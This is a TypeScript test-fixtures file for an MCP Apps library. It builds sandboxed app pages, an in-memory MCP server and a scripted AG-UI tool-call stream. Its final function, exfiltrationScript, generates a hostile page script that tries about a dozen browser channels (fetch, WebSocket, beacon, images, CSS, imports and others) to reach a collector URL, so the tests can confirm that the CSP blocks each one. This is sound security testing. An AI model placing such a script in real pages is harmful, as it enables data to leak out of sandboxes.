/// <reference types="vite/client" />
/**
 * Test fixtures: MCP App pages built on the real ext-apps `App` class (its self-contained
 * `app-with-deps` build, inlined as a classic script so it runs in a `srcdoc` frame under the
 * app's CSP), and an in-memory proxy transport standing in for the MCP server.
 */
import {
  type CallToolResult,
  MCP_APP_MIME_TYPE,
  type McpAppsActivityContent,
  type McpUiResourceMeta,
  type ProxiedMCPRequest,
} from '@mcp-hitl/core'
import type { McpAppsPendingContent } from '@mcp-hitl/core/internal'
import type { McpAppMessageParams, McpProxyTransport } from '@mcp-hitl/core/apps'
import extAppsModule from '@modelcontextprotocol/ext-apps/app-with-deps?raw'
import { expect, vi } from 'vitest'

// The module ends with `export{a as App,...}`: turn that into a global, inside an IIFE so the
// library's top-level names cannot clash with the view script's.
function toClassicScript(source: string): string {
  const match = /export\s*\{([^}]*)\};?\s*$/.exec(source)
  if (!match) throw new Error('unexpected app-with-deps build: no trailing export list')
  const entries = match[1]!.split(',').map((part) => {
    const [local, exported] = part.trim().split(/\s+as\s+/)
    return `${JSON.stringify(exported ?? local)}:${local}`
  })
  return `(function(){"use strict";${source.slice(0, match.index)};globalThis.ExtApps={${entries.join(',')}};})();`
}

let library: string | undefined
/** The ext-apps view library as a classic script that defines `globalThis.ExtApps`. */
export function extAppsScript(): string {
  library ??= toClassicScript(extAppsModule)
  return library
}

/**
 * An MCP App page: the real ext-apps library, then `view` (plain JS). The view has `App` in scope
 * a `report(kind, data)` helper that sends `{ kind, data }` as a `ui/message` text block, which
 * the tests read through the frame's `onMessage`, and `rawRequest(method, params, timeoutMs)` that
 * posts a JSON-RPC request by hand and resolves with the answer (or `{ timeout: true }`).
 */
export function appHtml(view: string, options: { title?: string } = {}): string {
  const prelude = `const { App } = ExtApps;
const report = (kind, data) => app.sendMessage({ role: 'user', content: [{ type: 'text', text: JSON.stringify({ kind, data }) }] });
let rawId = 0;
const rawRequest = (method, params, timeoutMs = 2000) => new Promise((resolve) => {
  const id = 'raw-' + ++rawId;
  const done = (value) => { window.removeEventListener('message', on); clearTimeout(timer); resolve(value); };
  const on = (e) => { if (e.source === window.parent && e.data && e.data.id === id) done(e.data); };
  const timer = setTimeout(() => done({ timeout: true }), timeoutMs);
  window.addEventListener('message', on);
  window.parent.postMessage({ jsonrpc: '2.0', id, method, params }, '*');
});`
  return `<!doctype html><html><head><meta charset="utf-8"><title>${options.title ?? 'Test view'}</title>
<style>html,body{margin:0;font:14px/1.4 sans-serif}</style></head><body><div id="root">view</div>
<script>${extAppsScript()}</script>
<script>${prelude}
${view}</script></body></html>`
}

/** A reported event from {@link appHtml}'s `report`. */
export interface Report {
  kind: string
  data: unknown
}

/** Parses a `ui/message` sent by `report`, or undefined for other messages. */
export function parseReport(message: { content: { type: string; text?: unknown }[] }): Report | undefined {
  const text = message.content[0]?.text
  if (typeof text !== 'string') return undefined
  try {
    const parsed = JSON.parse(text) as Report
    return typeof parsed.kind === 'string' ? parsed : undefined
  } catch {
    return undefined
  }
}

/** An in-memory MCP server behind the proxy transport: one UI resource and a few tools. */
export function memoryServer(options: {
  html: string
  meta?: McpUiResourceMeta
  tools?: Record<string, (args: Record<string, unknown>) => CallToolResult | Promise<CallToolResult>>
  blob?: boolean
  /** What `resources/list` answers (`resources/templates/list` answers none). */
  resources?: Record<string, unknown>[]
}) {
  const requests: ProxiedMCPRequest[] = []
  let failReads = 0
  const transport: McpProxyTransport = {
    async request(request) {
      requests.push(request)
      const params = request.params ?? {}
      switch (request.method) {
        case 'resources/read': {
          if (failReads > 0) {
            failReads--
            throw new Error('upstream unavailable')
          }
          const entry: Record<string, unknown> = { uri: params.uri, mimeType: MCP_APP_MIME_TYPE, _meta: { ui: options.meta ?? {} } }
          if (options.blob) entry.blob = toBase64(options.html)
          else entry.text = options.html
          return { contents: [entry] }
        }
        case 'tools/call': {
          const tool = options.tools?.[String(params.name)]
          if (!tool) return { content: [{ type: 'text', text: `Unknown tool ${String(params.name)}` }], isError: true }
          return tool((params.arguments as Record<string, unknown>) ?? {})
        }
        case 'resources/list':
          return { resources: options.resources ?? [] }
        case 'resources/templates/list':
          return { resourceTemplates: [] }
        default:
          return {}
      }
    },
  }
  return {
    transport,
    requests,
    /** The next `n` resource reads fail. */
    failNextReads(n: number) {
      failReads = n
    },
  }
}

function toBase64(text: string): string {
  const bytes = new TextEncoder().encode(text)
  let binary = ''
  // Chunked: spreading half a megabyte of bytes into one call overflows the stack.
  for (let i = 0; i < bytes.length; i += 0x8000) binary += String.fromCharCode(...bytes.subarray(i, i + 0x8000))
  return btoa(binary)
}

let counter = 0
/** Activity content as the AG-UI middleware emits it. */
export function activity(overrides: Partial<McpAppsActivityContent> = {}): McpAppsActivityContent {
  counter++
  return {
    resourceUri: `ui://test/view-${counter}.html`,
    serverHash: 'hash-1',
    serverId: 'test-server',
    toolInput: { city: 'Paris' },
    result: { content: [{ type: 'text', text: 'sunny' }], structuredContent: { temp: 21 } },
    ...overrides,
  }
}

/** Collects `report`s (and other `ui/message`s) from app frames; `waitFor(kind, n)` polls for them. */
export function recorder() {
  const reports: Report[] = []
  const other: McpAppMessageParams[] = []
  const onMessage = vi.fn((message: McpAppMessageParams) => {
    const report = parseReport(message)
    if (report) reports.push(report)
    else other.push(message)
  })
  const kinds = () => reports.map((r) => r.kind)
  const find = (kind: string) => reports.filter((r) => r.kind === kind)
  const waitFor = (kind: string, count = 1) => vi.waitFor(() => expect(find(kind).length).toBeGreaterThanOrEqual(count), { timeout: 10_000 })
  return { reports, other, onMessage, kinds, find, waitFor }
}


/**
 * An AG-UI agent's `fetch` that streams one UI tool call as the kit middleware does: the call's
 * start with its pending `mcp-apps` activity, four argument pieces (`{"city":"Kyoto"}`), the end,
 * then the result under the same activity. Each piece waits for `next()`, so a test checks what the
 * app got before the model writes on.
 */
export function scriptedToolCallRun(start: McpAppsPendingContent) {
  const encoder = new TextEncoder()
  let release: () => void = () => {}
  const step = () =>
    new Promise<void>((resolve) => {
      release = resolve
    })
  const messageId = `mcp-apps:${start.toolCallId}`
  const fetch = async () =>
    new Response(
      new ReadableStream<Uint8Array>({
        async start(controller) {
          const send = (event: Record<string, unknown>) => controller.enqueue(encoder.encode(`data: ${JSON.stringify(event)}\n\n`))
          send({ type: 'RUN_STARTED', threadId: 't', runId: 'r1' })
          send({ type: 'TOOL_CALL_START', toolCallId: start.toolCallId, toolCallName: start.toolName, parentMessageId: 'a1' })
          send({ type: 'ACTIVITY_SNAPSHOT', messageId, activityType: 'mcp-apps', content: start, replace: true })
          for (const delta of ['{"ci', 'ty":"Ky', 'oto"', '}']) {
            await step()
            send({ type: 'TOOL_CALL_ARGS', toolCallId: start.toolCallId, delta })
          }
          send({ type: 'TOOL_CALL_END', toolCallId: start.toolCallId })
          await step()
          const { status: _s, toolCallId: _t, ...source } = start
          const result = { content: [{ type: 'text', text: 'Kyoto: rain' }] }
          send({ type: 'ACTIVITY_SNAPSHOT', messageId, activityType: 'mcp-apps', content: { ...source, toolInput: { city: 'Kyoto' }, result }, replace: true })
          send({ type: 'RUN_FINISHED', threadId: 't', runId: 'r1' })
          controller.close()
        },
      }),
      { headers: { 'content-type': 'text/event-stream' } },
    )
  const next = () => release()
  /**
   * Writes each piece once the app reported the one before (a `recorder` of a view that reports
   * `connected` and each tool event), then the result; returns the tool events the app got, in order.
   */
  const playThrough = async (rec: ReturnType<typeof recorder>): Promise<[string, unknown][]> => {
    await rec.waitFor('connected')
    for (const [kind, count] of [['tool-input-partial', 1], ['tool-input-partial', 2], ['tool-input-partial', 3], ['tool-input', 1], ['tool-result', 1]] as const) {
      next()
      await rec.waitFor(kind, count)
    }
    return rec.reports.filter((r) => r.kind !== 'connected').map((r) => [r.kind, (r.data as { arguments?: unknown }).arguments])
  }
  return { fetch: fetch as typeof globalThis.fetch, next, playThrough }
}

/** What an app gets from {@link scriptedToolCallRun}: the healed pieces (a half-written key left out), the input once, the result. */
export const SCRIPTED_TOOL_EVENTS: [string, unknown][] = [
  ['tool-input-partial', {}],
  ['tool-input-partial', { city: 'Ky' }],
  ['tool-input-partial', { city: 'Kyoto' }],
  ['tool-input', { city: 'Kyoto' }],
  ['tool-result', undefined],
]

/** Signals that hostile test pages post to `parent` (as JSON-RPC notifications, so a proxy relays them). */
export interface TestSignal {
  method: string
  params: Record<string, unknown>
}

/** Collects `test/*` notifications reaching this window from any frame (the bridge ignores them). */
export function signals() {
  const seen: TestSignal[] = []
  const onMessage = (event: MessageEvent) => {
    const data = event.data as Partial<TestSignal> | undefined
    if (data && typeof data.method === 'string' && data.method.startsWith('test/')) seen.push({ method: data.method, params: data.params ?? {} })
  }
  window.addEventListener('message', onMessage)
  const of = (method: string, match: Record<string, unknown> = {}) =>
    seen.filter((s) => s.method === method && Object.entries(match).every(([k, v]) => s.params[k] === v))
  return {
    seen,
    of,
    waitFor: (method: string, match: Record<string, unknown> = {}, timeout = 10_000) =>
      vi.waitFor(() => expect(of(method, match).length).toBeGreaterThan(0), { timeout }),
    stop: () => window.removeEventListener('message', onMessage),
  }
}

/** What the collector (hostile-peers.global-setup.ts) received for URLs containing `tag`. */
export async function collected(collectorUrl: string, tag: string): Promise<{ url: string; kind: string }[]> {
  const response = await fetch(`${collectorUrl}/__hits?tag=${encodeURIComponent(tag)}`, { cache: 'no-store' })
  return (await response.json()) as { url: string; kind: string }[]
}

/**
 * A script that tries every way out of the sandbox we know of towards `collectorUrl` (tagged
 * `case=<tag>`), while parsing, at load and a little later, then posts `test/ran`. Only CSP
 * stands between each attempt and the collector.
 */
export function exfiltrationScript(collectorUrl: string, tag: string): string {
  return `(function () {
  var base = ${JSON.stringify(collectorUrl)};
  var u = function (via) { return base + '/x?case=${tag}&via=' + via; };
  var attempt = function (fn) { try { fn(); } catch (e) {} };
  var go = function (phase) {
    attempt(function () { fetch(u('fetch-' + phase), { mode: 'no-cors' }).catch(function () {}); });
    attempt(function () { var x = new XMLHttpRequest(); x.open('GET', u('xhr-' + phase)); x.send(); });
    attempt(function () { new WebSocket(u('ws-' + phase).replace('http', 'ws')); });
    attempt(function () { new EventSource(u('sse-' + phase)); });
    attempt(function () { navigator.sendBeacon(u('beacon-' + phase), 'x'); });
    attempt(function () { var i = new Image(); i.src = u('img-' + phase); });
    attempt(function () { var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u('css-' + phase); document.documentElement.appendChild(l); });
    attempt(function () { var l = document.createElement('link'); l.rel = 'prefetch'; l.href = u('prefetch-' + phase); document.documentElement.appendChild(l); });
    attempt(function () { var s = document.createElement('script'); s.src = u('script-' + phase); document.documentElement.appendChild(s); });
    attempt(function () { var f = document.createElement('iframe'); f.src = u('frame-' + phase); document.documentElement.appendChild(f); });
    attempt(function () { var a = new Audio(); a.src = u('media-' + phase); });
    attempt(function () { var st = document.createElement('style'); st.textContent = '@font-face{font-family:x;src:url(' + u('font-' + phase) + ')} html{background:url(' + u('bg-' + phase) + ');font-family:x}'; document.documentElement.appendChild(st); });
    attempt(function () { import(u('import-' + phase)).catch(function () {}); });
  };
  go('parse');
  addEventListener('load', function () { go('load'); });
  setTimeout(function () { go('later'); }, 50);
  parent.postMessage({ jsonrpc: '2.0', method: 'test/ran', params: { case: '${tag}' } }, '*');
})();`
}
